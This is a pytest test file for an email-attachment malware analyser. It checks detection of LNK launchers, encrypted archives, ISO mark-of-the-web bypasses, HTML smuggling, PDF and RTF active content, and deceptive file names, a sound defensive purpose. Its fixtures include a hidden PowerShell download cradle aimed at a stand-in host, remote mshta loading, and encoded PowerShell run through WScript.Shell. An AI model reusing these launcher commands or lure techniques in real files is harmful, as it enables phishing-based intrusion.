"""Each file format and trick gets its reason, with the right ATT&CK technique; benign look-alikes
stay clean."""

from __future__ import annotations

import contextlib
import struct
import time
from pathlib import Path

import pytest

from aptlink.analysis import builders
from aptlink.detect.attachments import AttachmentReport, analyse_attachment, iter_reasons
from aptlink.model import Kind, Provenance

PROV = Provenance(file="mail.eml", sha256="0" * 64, chain=("email",))
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
WORD_ICON = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
LNK = builders.make_lnk(POWERSHELL, "-w hidden -c iwr https://example.invalid/a", WORD_ICON)


def _analyse(name: str, data: bytes, **kw: object) -> AttachmentReport:
    return analyse_attachment(name, data, PROV, **kw)  # type: ignore[arg-type]


def _codes(report: AttachmentReport) -> set[str]:
    return {r.code.removeprefix("attachment:") for r in iter_reasons(report)}


def _techniques(report: AttachmentReport) -> set[str]:
    return {r.technique or "" for r in iter_reasons(report)}


@pytest.mark.parametrize(
    ("target", "args", "code", "technique"),
    [
        (POWERSHELL, "-enc AAAA", "lnk-powershell", "T1059.001"),
        (r"C:\Windows\System32\cmd.exe", "/c start x.docx", "lnk-cmd", "T1059.003"),
        (
            r"C:\Windows\System32\mshta.exe",
            "https://example.invalid/a.hta",
            "lnk-mshta",
            "T1218.005",
        ),
        (r"C:\Windows\System32\rundll32.exe", "x.dll,Start", "lnk-rundll32", "T1218.011"),
        (r"C:\Windows\System32\regsvr32.exe", "/s /i:x scrobj.dll", "lnk-regsvr32", "T1218.010"),
        (r"C:\Windows\System32\wscript.exe", "x.vbs", "lnk-wscript", "T1059.005"),
        (r"C:\Windows\System32\msiexec.exe", "/q /i x.msi", "lnk-msiexec", "T1218.007"),
        (r"C:\Windows\System32\certutil.exe", "-decode a b", "lnk-certutil", "T1140"),
        (r"C:\Windows\System32\bitsadmin.exe", "/transfer j", "lnk-bitsadmin", "T1197"),
        (r"C:\Windows\System32\curl.exe", "-o x", "lnk-curl", "T1105"),
    ],
)
def test_lnk_launchers(target: str, args: str, code: str, technique: str) -> None:
    report = _analyse("a.lnk", builders.make_lnk(target, args))
    assert report.type == "lnk"
    assert {"lnk-file", code} <= _codes(report)
    assert technique in _techniques(report)
    commands = [o.value for o in report.observations if o.kind is Kind.COMMAND_LINE]
    assert commands == [f"{target} {args}"]


def test_lnk_posing_as_document() -> None:
    report = _analyse("国際情勢と日本外交.docx.lnk", LNK)
    assert _codes(report) >= {"double-extension", "lnk-document-icon", "lnk-powershell", "lnk-url"}
    assert report.score == 100


def test_lnk_with_padded_arguments() -> None:
    report = _analyse("a.lnk", builders.make_lnk(r"C:\Windows\explorer.exe", " " * 300 + "x"))
    assert "lnk-padded-arguments" in _codes(report)


def test_benign_shortcut_is_only_a_shortcut() -> None:
    report = _analyse("notes.lnk", builders.make_lnk(r"C:\Users\Public\notes.txt"))
    assert _codes(report) == {"lnk-file"}


def test_password_zip_opened_with_body_password() -> None:
    data = builders.make_zip({"日米同盟.docx.lnk": LNK}, password="kaigi2024")
    report = _analyse("資料.zip", data, passwords=["wrong", "kaigi2024"])
    assert report.encrypted and report.opened_with == "kaigi2024"
    assert {"archive-encrypted", "archive-password-in-mail", "lnk-powershell"} <= _codes(report)
    assert (Kind.PASSWORD_PHRASE, "kaigi2024") in {(o.kind, o.value) for o in report.observations}
    assert [c.name for c in report.children] == ["日米同盟.docx.lnk"]


@pytest.mark.parametrize("aes", [True, False])
def test_password_zip_without_password_stays_closed(aes: bool) -> None:
    report = _analyse("a.zip", builders.make_zip({"a.lnk": LNK}, password="x", aes=aes))
    assert report.encrypted and report.opened_with is None and report.children == ()
    assert _codes(report) == {"archive-encrypted"}
    names = [o.value for o in report.observations if o.kind is Kind.FILE_NAME]
    assert "a.lnk" in names  # names are visible without the password


def test_encrypted_7z_with_encrypted_names() -> None:
    report = _analyse(
        "a.7z", builders.make_7z({"x.docx.lnk": LNK}, password="pw7"), passwords=["pw7"]
    )
    assert report.opened_with == "pw7" and "lnk-powershell" in _codes(report)


def test_rar_stored_members_are_read_and_damaged_compressed_ones_reported() -> None:
    stored = _analyse("a.rar", builders.make_rar({"x.docx.lnk": LNK}))
    assert "lnk-powershell" in _codes(stored)
    # Marked compressed but holding raw bytes: UnRAR rejects the data, and says so.
    packed = _analyse("b.rar", builders.make_rar({"x.docx.lnk": LNK}, compressed=True))
    assert _codes(packed) == {"archive-corrupt"}
    assert "x.docx.lnk" in {o.value for o in packed.observations if o.kind is Kind.FILE_NAME}
    assert packed.errors and "cannot unpack" in packed.errors[0]


RAR_FIXTURES = Path(__file__).parents[1] / "data" / "attachments" / "rar"


@pytest.mark.parametrize("fixture", ["rar5-solid.rar", "rar3-solid.rar"])
def test_compressed_rar_members_are_unpacked_in_memory(fixture: str) -> None:
    report = _analyse(fixture, (RAR_FIXTURES / fixture).read_bytes())
    assert [c.name for c in report.children] == ["stest1.txt", "stest2.txt"]
    assert not report.errors and "archive-uninspected" not in _codes(report)


def test_encrypted_rar_is_opened_with_the_mails_password() -> None:
    data = (RAR_FIXTURES / "rar5-psw.rar").read_bytes()
    shut = _analyse("a.rar", data, passwords=["wrong"])
    assert shut.encrypted and shut.opened_with is None and shut.children == ()
    assert "archive-encrypted" in _codes(shut) and any("no password" in e for e in shut.errors)
    opened = _analyse("a.rar", data, passwords=["wrong", "password"])
    assert opened.opened_with == "password"
    assert {"archive-encrypted", "archive-password-in-mail"} <= _codes(opened)
    assert [c.name for c in opened.children] == ["stest1.txt", "stest2.txt"]


def test_rar_with_encrypted_names_is_listed_with_the_password_or_reported() -> None:
    data = (RAR_FIXTURES / "rar5-hpsw.rar").read_bytes()
    shut = _analyse("h.rar", data)
    assert shut.encrypted and "archive-encrypted" in _codes(shut)
    assert shut.errors and "no password" in shut.errors[0]
    opened = _analyse("h.rar", data, passwords=["password"])
    assert opened.opened_with == "password"
    assert [c.name for c in opened.children] == ["stest1.txt", "stest2.txt"]


def test_rar_member_over_its_cap_is_a_bomb_not_a_member() -> None:
    from aptlink.analysis import unrar

    data = (RAR_FIXTURES / "rar5-solid.rar").read_bytes()
    result = unrar.unpack(data, {"stest1.txt": 100, "stest2.txt": 4096}, None, time.monotonic() + 5)
    assert result.overflowed == ["stest1.txt"] and "stest1.txt" not in result.members
    late = unrar.unpack(data, {"stest1.txt": 4096}, None, time.monotonic() - 1)
    assert late.timed_out and late.members == {}


def test_iso_is_a_motw_bypass_with_contents() -> None:
    report = _analyse("EXPO2025.iso", builders.make_iso({"EXPO 2025.docx.lnk": LNK}))
    assert report.type == "iso" and "T1553.005" in _techniques(report)
    assert [c.name for c in report.children] == ["EXPO 2025.docx.lnk"]


def test_remote_template_docx_and_plain_docx() -> None:
    bad = _analyse("a.docx", builders.make_docx("https://example.invalid/t.dotm", author="Taro"))
    assert _codes(bad) == {"remote-template"} and _techniques(bad) == {"T1221"}
    templates = [o.value for o in bad.observations if o.kind is Kind.DOC_TEMPLATE]
    assert templates == ["https://example.invalid/t.dotm"]
    assert _codes(_analyse("b.docx", builders.make_docx(text="議事録"))) == set()


def test_html_smuggling_and_plain_html() -> None:
    report = _analyse(
        "invoice.html", builders.make_html_smuggling(builders.make_zip({"a.lnk": LNK}))
    )
    assert _codes(report) == {"html-smuggling"} and _techniques(report) == {"T1027.006"}
    plain = b"<html><body><script>console.log(1)</script><a href='https://example.org/'>x</a></body></html>"
    assert _codes(_analyse("page.html", plain)) == set()


def test_html_password_form() -> None:
    page = (
        b'<html><form action="https://example.invalid/login"><input type="password"></form></html>'
    )
    report = _analyse("login.htm", page)
    assert _codes(report) == {"html-credential-form"}


def test_pdf_active_content() -> None:
    js = _analyse(
        "a.pdf", builders.make_pdf(javascript="app.alert(1)", uri="https://example.invalid/x")
    )
    assert _codes(js) == {"pdf-javascript", "pdf-auto-action"}
    assert "https://example.invalid/x" in {o.value for o in js.observations if o.kind is Kind.URL}
    launch = _analyse(
        "b.pdf", builders.make_pdf(launch="cmd.exe /c calc", embedded=("a.exe", builders.make_pe()))
    )
    assert {"pdf-launch", "pdf-embedded-file", "executable"} <= _codes(launch)
    assert _codes(_analyse("c.pdf", builders.make_pdf(uri="https://example.org/"))) == set()


def test_pdf_with_hex_escaped_names() -> None:
    data = builders.make_pdf(javascript="x").replace(b"/JavaScript", b"/J#61vaScript")
    assert "pdf-javascript" in _codes(_analyse("a.pdf", data))


def test_executable_sfx_and_double_extension() -> None:
    report = _analyse("資料.pdf.exe", builders.make_pe(builders.make_zip({"a.docx.lnk": LNK})))
    assert {"double-extension", "executable", "sfx-archive", "lnk-powershell"} <= _codes(report)


def test_right_to_left_override_and_padding_and_mismatch() -> None:
    assert "right-to-left-override" in _codes(_analyse("inv\u202excod.scr", builders.make_pe()))
    assert "whitespace-padding" in _codes(
        _analyse("report.docx" + " " * 40 + ".exe", builders.make_pe())
    )
    assert "type-mismatch" in _codes(_analyse("report.pdf", builders.make_pe()))


@pytest.mark.parametrize(
    ("name", "technique"),
    [
        ("a.js", "T1059.007"),
        ("a.vbs", "T1059.005"),
        ("a.hta", "T1218.005"),
        ("a.ps1", "T1059.001"),
        ("a.bat", "T1059.003"),
        ("a.wsf", "T1059.005"),
    ],
)
def test_scripts(name: str, technique: str) -> None:
    report = _analyse(name, b'CreateObject("WScript.Shell").Run "powershell -enc AAAA"')
    assert technique in _techniques(report)
    assert "script-keywords" in _codes(report)


def test_nested_mail_opens_its_zip_with_its_own_password() -> None:
    import base64

    archive = base64.b64encode(builders.make_zip({"a.docx.lnk": LNK}, password="nested1")).decode()
    mail = (
        "From: a@example.invalid\r\nTo: b@example.invalid\r\nSubject: fw\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n'
        "パスワード：nested1\r\n--b\r\nContent-Type: application/zip\r\n"
        'Content-Disposition: attachment; filename="a.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        f"{archive}\r\n--b--\r\n"
    ).encode()
    report = _analyse("fw.eml", mail)
    assert report.type == "eml"
    (child,) = report.children
    assert child.opened_with == "nested1" and "lnk-powershell" in _codes(child)


def test_invisible_characters_in_names() -> None:
    report = _analyse("reviewdocument_txtid$3545767\u034f\u034f.RTF", b"{\\rtf1 hello}")
    assert report.type == "rtf" and _codes(report) == {"invisible-characters"}


def test_urls_in_text_rtf_and_html_are_observed() -> None:
    invite = b"BEGIN:VCALENDAR\r\nDESCRIPTION:Join https://example.invalid/meet?id=1.\r\nEND:VCALENDAR\r\n"
    rtf = b'{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "https://example.invalid/r"}}}'
    page = b"<html><body><a href='https://example.invalid/h'>x</a></body></html>"
    for name, data, url in [
        ("invite.ics", invite, "https://example.invalid/meet?id=1"),
        ("a.rtf", rtf, "https://example.invalid/r"),
        ("a.html", page, "https://example.invalid/h"),
    ]:
        report = _analyse(name, data)
        assert url in {o.value for o in report.observations if o.kind is Kind.URL}, name
        assert _codes(report) == set(), name


def test_windows_run_formats() -> None:
    from aptlink.analysis.cfbwriter import write_cfb
    from aptlink.analysis.filetype import MSI_CLSID, ONENOTE_MAGIC
    from aptlink.analysis.installers import ONENOTE_FILE_GUID

    msi = write_cfb({"\u4840\u3b3f": b"x" * 100}, root_clsid=MSI_CLSID)
    assert _analyse("update.msi", msi).type == "msi"
    assert "T1218.007" in _techniques(_analyse("update.msi", msi))
    assert _codes(_analyse("help.chm", b"ITSF" + bytes(100))) == {"chm-file"}
    jar = builders.make_zip(
        {"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"}
    )
    assert _codes(_analyse("invoice.jar", jar)) == {"jar-file"}
    url = _analyse("doc.url", b"[InternetShortcut]\r\nURL=file://203.0.113.9/share/doc.exe\r\n")
    assert _codes(url) == {"url-shortcut"}
    assert "file://203.0.113.9/share/doc.exe" in {o.value for o in url.observations}
    hta = b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"
    one = ONENOTE_MAGIC + bytes(64) + ONENOTE_FILE_GUID + struct.pack("<QIQ", len(hta), 0, 0) + hta
    report = _analyse("invoice.one", one)
    assert {"onenote-file", "onenote-embedded-file"} <= _codes(report)
    assert report.children[0].type == "html"


def test_rtf_objects() -> None:
    hta = b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"
    package = _analyse("a.rtf", builders.make_rtf(("invoice.hta", hta)))
    assert _codes(package) >= {"rtf-object", "script-hta"}
    assert [c.name for c in package.children] == ["invoice.hta"]
    exploit = _analyse("b.rtf", builders.make_rtf(("x", b"\x1c\x00" * 40), class_name="Equation.3"))
    assert "rtf-exploit-class" in _codes(exploit) and "T1203" in _techniques(exploit)
    assert _codes(_analyse("c.rtf", builders.make_rtf())) == set()


def _nested_mail(password_line: bytes, charset: str = "utf-8") -> bytes:
    import base64

    archive = base64.b64encode(builders.make_zip({"a.docx.lnk": LNK}, password="nested1")).decode()
    return (
        b"From: a@example.invalid\r\nTo: b@example.invalid\r\nSubject: fw\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        + f"Content-Type: text/plain; charset={charset}\r\n\r\n".encode()
        + password_line
        + b"\r\n--b\r\nContent-Type: application/zip\r\n"
        b'Content-Disposition: attachment; filename="a.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + archive.encode()
        + b"\r\n--b--\r\n"
    )


def test_nested_iso_2022_jp_mail_password() -> None:
    mail = _nested_mail("パスワード：nested1".encode("iso-2022-jp"), "iso-2022-jp")
    (child,) = _analyse("fw.eml", mail).children
    assert child.opened_with == "nested1"


def test_nested_mail_without_the_project_mail_parser(monkeypatch: pytest.MonkeyPatch) -> None:
    from aptlink.analysis import mail

    def missing(name: str) -> object:
        raise ImportError(name)

    monkeypatch.setattr(mail.importlib, "import_module", missing)
    report = _analyse("fw.eml", _nested_mail("パスワード：nested1".encode()))
    (child,) = report.children
    assert child.opened_with == "nested1" and "lnk-powershell" in _codes(child)
    assert (Kind.SUBJECT, "fw") in {(o.kind, o.value) for o in report.observations}


def test_lnk_with_only_an_id_list() -> None:
    data = builders.make_lnk(POWERSHELL, "-enc AAAA", id_list=True, link_info=False)
    report = _analyse("a.lnk", data)
    assert "lnk-powershell" in _codes(report) and report.errors == ()
    assert [o.value for o in report.observations if o.kind is Kind.COMMAND_LINE] == [
        f"{POWERSHELL} -enc AAAA"
    ]


def test_cp932_member_names_are_decoded() -> None:
    real = "国際情勢と日本外交.docx.lnk"
    raw = real.encode("cp932")
    placeholder = "x" * len(raw)
    data = builders.make_zip({placeholder: LNK}).replace(placeholder.encode(), raw)
    report = _analyse("a.zip", data)
    assert [c.name for c in report.children] == [real]
    assert "double-extension" in _codes(report)


def test_zipcrypto_wrong_password_is_not_taken_for_the_right_one() -> None:
    data = builders.make_zip({"a.docx.lnk": LNK}, password="right", aes=False)
    # Among 19 wrong passwords, one passes the one-byte check with probability 7 %; this seed's do.
    wrong = [w for w in (f"w{i}" for i in range(2000)) if _passes_check_byte(data, w)][:19]
    assert wrong
    report = _analyse("a.zip", data, passwords=[*wrong, "right"])
    assert report.opened_with == "right"


def _passes_check_byte(data: bytes, password: str) -> bool:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive, contextlib.suppress(RuntimeError):
        archive.open(archive.infolist()[0], pwd=password.encode()).close()
        return True
    return False


def test_password_tries_are_capped() -> None:
    data = builders.make_zip({"a.txt": b"x"}, password="last")
    report = _analyse("a.zip", data, passwords=[f"w{i}" for i in range(40)] + ["last"])
    assert report.opened_with is None
